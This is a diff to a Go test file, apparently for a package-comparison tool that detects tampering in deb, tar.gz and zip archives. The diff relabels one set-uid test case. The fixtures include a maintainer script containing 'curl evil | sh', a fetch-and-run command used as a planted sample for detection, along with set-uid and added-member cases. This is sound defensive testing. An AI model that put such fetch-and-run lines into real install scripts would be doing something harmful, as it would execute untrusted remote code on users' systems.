@@ -149,7 +149,7 @@ func nestedPairs(t *testing.T) []pair {
 	return []pair{
 		benign("deb times", reports.EqualNormalised, deb(control("exit 0\n"), x(data(0o755, 1800000000))), plain),
 		planted("deb maintainer script", deb(control("curl evil | sh\n"), x(data(0o755, 1700000000))), plain, compare.InstallScript),
-		hidden("deb set-uid", deb(control("exit 0\n"), x(data(0o4755, 1700000000))), plain, compare.SetID),
+		planted("deb set-uid", deb(control("exit 0\n"), x(data(0o4755, 1700000000))), plain, compare.SetID),
 		planted("deb added member", append(bytes.Clone(plain), sectionstest.Ar(sectionstest.File{Name: "_extra", Content: []byte("evil")})[8:]...), plain, compare.AddedMember),
 		benign("tar.gz times and level", reports.EqualNormalised, tgz(1, 1800000000), tgz(9, 1700000000)),
 		planted("zip in tar.gz in zip, set-uid", inner(0o4755), inner(0o755), compare.SetID),
